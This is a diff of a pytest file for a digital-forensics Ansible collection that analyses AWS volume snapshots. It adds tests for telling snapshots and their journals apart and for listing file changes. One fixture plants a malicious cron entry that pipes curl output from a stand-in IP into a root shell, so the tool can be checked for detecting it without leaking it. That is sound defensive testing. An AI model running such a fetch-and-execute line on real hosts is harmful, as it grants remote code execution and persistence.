@@ -18,8 +18,15 @@ from typing import Any
 
 import pytest
 import yaml
-from ansible_collections.dfir.aws.plugins.module_utils.forensics import analyze, plaso_run, scan, steps, validate
-from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Partition
+from ansible_collections.dfir.aws.plugins.module_utils.forensics import (
+    analyze,
+    changes,
+    plaso_run,
+    scan,
+    steps,
+    validate,
+)
+from ansible_collections.dfir.aws.plugins.module_utils.forensics.model import Artifacts, Evidence, Host, Partition
 from ansible_collections.dfir.aws.plugins.module_utils.forensics.tools import ToolError, run
 
 IMAGE = Path(__file__).resolve().parents[3] / "roles/toolbox/files/image"
@@ -48,8 +55,8 @@ def hang(say: steps.Say) -> dict[str, Any]:
 
 
 def test_one_step_that_fails_hangs_or_crashes_takes_no_other_along() -> None:
-    work = [steps.Step(1, "good", good, 30), steps.Step(1, "bad", bad, 30), steps.Step(1, "crash", crash, 30),
-            steps.Step(1, "hang", hang, 0.5), steps.Step(2, "good", good, 30)]
+    work = [steps.Step("p1", "good", good, 30), steps.Step("p1", "bad", bad, 30), steps.Step("p1", "crash", crash, 30),
+            steps.Step("p1", "hang", hang, 0.5), steps.Step("p2", "good", good, 30)]
     said: list[str] = []
     began = time.monotonic()
     outcomes = steps.run_steps(work, said.append)
@@ -65,7 +72,7 @@ def test_a_step_out_of_time_leaves_no_process(tmp_path: Path) -> None:
             (tmp_path / "pid").write_text(str(process.pid))
         return {}
 
-    steps.run_steps([steps.Step(1, "hang", start, 1)], quiet)
+    steps.run_steps([steps.Step("p1", "hang", start, 1)], quiet)
     stat = Path(f"/proc/{(tmp_path / 'pid').read_text()}/stat")
     deadline = time.monotonic() + 5
     while stat.exists() and stat.read_text().split()[2] != "Z" and time.monotonic() < deadline:
@@ -75,7 +82,7 @@ def test_a_step_out_of_time_leaves_no_process(tmp_path: Path) -> None:
 
 def test_told_to_stop_it_keeps_what_is_done_and_closes_its_books(mount: Path, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
-    def work(settings: analyze.Settings, partition: Partition, name: str, workers: int) -> Any:
+    def work(settings: analyze.Settings, volume: Evidence, partition: Partition, name: str, workers: int) -> Any:
         if name == "findings":
             return good
 
@@ -89,7 +96,7 @@ def test_told_to_stop_it_keeps_what_is_done_and_closes_its_books(mount: Path, tm
 
     monkeypatch.setattr(analyze, "_work", work)
     evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),))
-    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work",
+    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work",
                                 steps=("findings", "timeline", "yara"))
     settings.work.mkdir()
     began = time.monotonic()
@@ -110,7 +117,7 @@ def test_tools_are_proven_once_more_after_the_work(mount: Path, tmp_path: Path, 
                           for name in ("plaso", "yara", "clamav")]}
 
     evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),))
-    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",),
+    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",),
                                 prove=prove)
     settings.work.mkdir()
     assert analyze.analyze(settings) is (not broken)
@@ -132,7 +139,7 @@ def test_told_to_stop_it_does_not_spend_its_last_seconds_on_proof(mount: Path, t
         return hang(say)
 
     monkeypatch.setattr(analyze, "_work", lambda *_unused: stopped)
-    settings = analyze.Settings(Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),)),
+    settings = analyze.Settings(Host((Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount),)),)),
                                 Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",),
                                 prove=lambda: {"tools": 1 / 0})
     settings.work.mkdir()
@@ -149,7 +156,7 @@ def test_silence_is_broken_by_progress_lines(monkeypatch: pytest.MonkeyPatch) ->
         return {}
 
     said: list[str] = []
-    steps.run_steps([steps.Step(1, "timeline", slow, 30)], said.append)
+    steps.run_steps([steps.Step("p1", "timeline", slow, 30)], said.append)
     assert any(line.startswith("p1: timeline 12,345 entries (") for line in said)
 
 
@@ -210,7 +217,7 @@ def test_p23_p24_every_partition_is_accounted_for(mount: Path, tmp_path: Path) -
     evidence = Evidence("vol-0123456789abcdef0", "snap-0123456789abcdef0", 1, (
         part(mount, 1), part(None, 2, type="xfs"), part(None, 3, "luks", type="crypto_LUKS"),
         part(None, 4, "swap", type="swap")))
-    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
+    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
     settings.work.mkdir()
     assert analyze.analyze(settings) is False
     outcome = json.loads((settings.work / "outcome.json").read_text())
@@ -223,11 +230,63 @@ def test_p23_p24_every_partition_is_accounted_for(mount: Path, tmp_path: Path) -
     assert summary["partitions"][0]["findings"]["high"] >= 1
 
 
+def test_several_snapshots_and_their_journals_are_told_apart(mount: Path, tmp_path: Path) -> None:
+    """Two volumes, and a second one of the first on which journals were applied: one partition could be mounted."""
+    first, second = "vol-0123456789abcdef0", "vol-0fedcba9876543210"
+    host = Host((Evidence(first, "snap-1", 1, (part(mount, 1), part(mount, 2))),
+                 Evidence(second, "snap-2", 1, (part(mount, 1),)),
+                 Evidence("vol-0aaaaaaaaaaaaaaaa", "snap-1", 1, (part(mount, 1), part(None, 2)), first)),
+                ({"kind": "lvm", "id": "x", "lacking": 1},))
+    settings = analyze.Settings(host, Artifacts(tmp_path / "out"), tmp_path / "work", steps=("findings",))
+    settings.work.mkdir()
+    assert analyze.analyze(settings) is False
+    assert json.loads((settings.work / "outcome.json").read_text())["missing"] == [f"{first}p1.journal.changes"]
+    assert sorted(path.name for path in (tmp_path / "out").glob("*.findings.json")) == [
+        f"{first}p1.findings.json", f"{first}p1.journal.findings.json", f"{first}p2.findings.json",
+        f"{second}p1.findings.json"]
+    summary = json.loads((tmp_path / "out/summary.json").read_text())
+    steps_of = {item["name"]: {name: step["state"] for name, step in item["steps"].items()}
+                for item in summary["partitions"]}
+    assert steps_of == {f"{first}p1": {"findings": "done"}, f"{first}p2": {"findings": "done"},
+                        f"{second}p1": {"findings": "done"},
+                        f"{first}p1.journal": {"findings": "done", "changes": "failed"},
+                        f"{first}p2.journal": {"all": "skipped"}}
+    assert summary["sets"] == [{"kind": "lvm", "id": "x", "lacking": 1}]
+    once = json.loads((tmp_path / "out" / f"{second}p1.findings.json").read_text())
+    assert summary["totals"]["findings"] == 3 * len(once), "what the journal's volume shows is not counted twice"
+
+
+def bodyfile(*lines: str) -> bytes:
+    return "".join(f"0|{line}|0\n" for line in lines).encode()
+
+
+def test_what_only_the_journal_knows_is_listed_and_counted(mount: Path, tmp_path: Path) -> None:
+    out = Artifacts(tmp_path / "out")
+    old, new = "vol-0123456789abcdef0p1", "vol-0123456789abcdef0p1.journal"
+    before = ("/same|5|r/rrw-r--r--|0|0|3|100|100|100", "/grown|6|r/rrw-r--r--|0|0|3|100|100|100",
+              "/removed|7|r/rrw-r--r--|0|0|3|100|100|100", "/old (deleted)|8|r/rrw-r--r--|0|0|3|100|100|100")
+    after = ("/same|5|r/rrw-r--r--|0|0|3|999|100|100", "/grown|6|r/rrw-r--r--|0|0|9|100|101|101",
+             "/odd|name|9|r/rrw-r--r--|0|0|3|100|100|100", "/removed (deleted)|7|r/rrw-r--r--|0|0|0|100|100|101")
+    for stem, lines, found in ((old, before, ["a"]), (new, after, ["a", "b"])):
+        with out.create(f"{stem}.bodyfile") as stream:
+            stream.write(bodyfile(*lines))
+        out.write_json(f"{stem}.findings.json", [{"id": name, "kind": "login"} for name in found])
+    host = Host((Evidence("vol-0123456789abcdef0", "snap-1", 1, (part(mount),)),
+                 Evidence("vol-0aaaaaaaaaaaaaaaa", "snap-1", 1, (part(mount),), "vol-0123456789abcdef0")))
+    [outcome] = changes.compare(host, out, quiet)
+    assert (outcome.partition, outcome.name, outcome.state) == ("p1.journal", "changes", "done")
+    assert outcome.counts == {"new": 1, "changed": 1, "gone": 1, "findings": 1}
+    report = json.loads((out.folder / f"{new}.changes.json").read_text())
+    assert {kind: [item["path"] for item in report[kind]] for kind in ("new", "changed", "gone")} == {
+        "new": ["/odd|name"], "changed": ["/grown"], "gone": ["/removed"]}
+    assert [item["id"] for item in report["findings"]] == ["b"] and report["counts"] == outcome.counts
+
+
 def test_summary_holds_nothing_from_the_evidence(mount: Path, tmp_path: Path) -> None:
     (mount / "etc/cron.d").mkdir()
     (mount / "etc/cron.d/WITNESSNAME").write_text("* * * * * root curl http://192.0.2.7/WITNESSLINE | sh\n")
     evidence = Evidence("vol-0123456789abcdef0", "snap-0", 1, (part(mount, type="WITNESSTYPE"),))
-    settings = analyze.Settings(evidence, Artifacts(tmp_path / "out"), tmp_path / "work",
+    settings = analyze.Settings(Host((evidence,)), Artifacts(tmp_path / "out"), tmp_path / "work",
                                 steps=("findings", "timeline"))
     settings.work.mkdir()
     analyze.analyze(settings)
